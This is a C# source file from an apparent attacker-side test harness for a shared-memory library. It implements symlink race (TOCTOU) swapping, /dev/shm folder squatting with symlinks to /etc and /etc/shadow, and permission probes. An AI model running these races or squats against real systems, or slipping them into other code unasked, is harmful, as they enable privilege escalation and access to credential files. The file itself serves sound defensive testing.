using System;
using System.IO;
using System.Threading;

namespace WinMmf.Attacker;

/// <summary>Attacks by names: what bears one changes while others look, or is there before its owner.</summary>
internal static class Names
{
    private const int MostFolders = 200;
    private const string Letters = "0123456789abcdef";

    /// <summary>Between a look and the use of it, a name may have come to mean another thing.</summary>
    public static int Swap(string path, CancellationToken end)
    {
        Program.Begin();
        for (int i = 0; !end.IsCancellationRequested; i++)
        {
            Remove(path);
            try
            {
                switch (i % 5)
                {
                    case 0:
                        File.WriteAllBytes(path, new byte[8192]);
                        break;
                    case 1:
                        File.CreateSymbolicLink(path, "/etc/shadow");
                        break;
                    case 2:
                        Directory.CreateDirectory(path);
                        break;
                    case 3:
                        Libc.MakePipe(path, 0x1B6);
                        break;
                }
            }
            catch (Exception e) when (e is IOException or UnauthorizedAccessException)
            {
                // Somebody else has it now.
            }

            end.WaitHandle.WaitOne(1);
        }

        Remove(path);
        return 0;
    }

    /// <summary>A channel picks a folder by chance: these are there already.</summary>
    public static int Squat(int user, CancellationToken end)
    {
        Program.Begin();
        string[] folders = new string[MostFolders];
        Random random = new();
        for (int i = 0; !end.IsCancellationRequested; i++)
        {
            ref string folder = ref folders[i % MostFolders];
            if (folder is not null)
                Remove(folder);
            folder = $"/dev/shm/winmmf-{user}-{new string(random.GetItems<char>(Letters, 16))}";
            try
            {
                if (random.Next(2) == 0)
                    Directory.CreateDirectory(folder);
                else
                    File.CreateSymbolicLink(folder, "/etc");
            }
            catch (IOException)
            {
                // It exists.
            }

            end.WaitHandle.WaitOne(5);
        }

        foreach (string folder in folders)
        {
            if (folder is not null)
                Remove(folder);
        }

        return 0;
    }

    /// <summary>What this account can do inside a folder.</summary>
    public static int Enter(string folder)
    {
        string own = Path.Combine(folder, "planted");
        bool list = Try(() => _ = Directory.GetFileSystemEntries(folder));
        bool create = Try(() => File.WriteAllText(own, "x"));
        bool link = Try(() => File.CreateSymbolicLink(own + ".link", "/etc/shadow"));
        bool rename = Try(() => File.Move(Path.Combine(folder, "owner"), Path.Combine(folder, "taken")));
        bool remove = Try(() => File.Delete(Path.Combine(folder, "owner")));
        Console.WriteLine($"list={Digit(list)} create={Digit(create)} link={Digit(link)} rename={Digit(rename)} remove={Digit(remove)}");
        return 0;
    }

    private static char Digit(bool value) => value ? '1' : '0';

    private static bool Try(Action work)
    {
        try
        {
            work();
            return true;
        }
        catch (Exception e) when (e is IOException or UnauthorizedAccessException)
        {
            return false;
        }
    }

    private static void Remove(string path)
    {
        try
        {
            if (new DirectoryInfo(path) is { Exists: true, LinkTarget: null } folder)
                folder.Delete();
            else
                File.Delete(path);
        }
        catch (Exception e) when (e is IOException or UnauthorizedAccessException)
        {
            // Not there, or not this account's.
        }
    }
}
